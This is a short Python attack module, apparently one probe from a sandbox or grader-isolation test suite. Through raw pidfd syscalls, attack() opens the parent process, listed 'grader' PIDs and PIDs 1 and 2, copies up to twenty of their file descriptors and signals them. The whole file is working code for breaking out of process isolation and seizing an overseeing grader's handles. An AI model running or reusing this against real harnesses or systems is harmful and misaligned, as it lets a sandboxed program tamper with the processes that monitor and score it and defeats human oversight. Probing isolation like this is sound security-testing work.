"""neighbours: opens its parent and the grader by pidfd, and takes their descriptors"""
import ctypes
import os
import signal


def attack():
    libc = ctypes.CDLL(None)
    found = []
    for pid in [os.getppid(), *TARGET["pids"], 1, 2]:
        fd = libc.syscall(434, pid, 0)
        if fd >= 0:
            found.append(("pidfd", pid))
            found += [("stolen", pid, n) for n in range(20) if libc.syscall(438, fd, n, 0) >= 0]
            libc.syscall(424, fd, signal.SIGCONT, 0, 0)
    return found
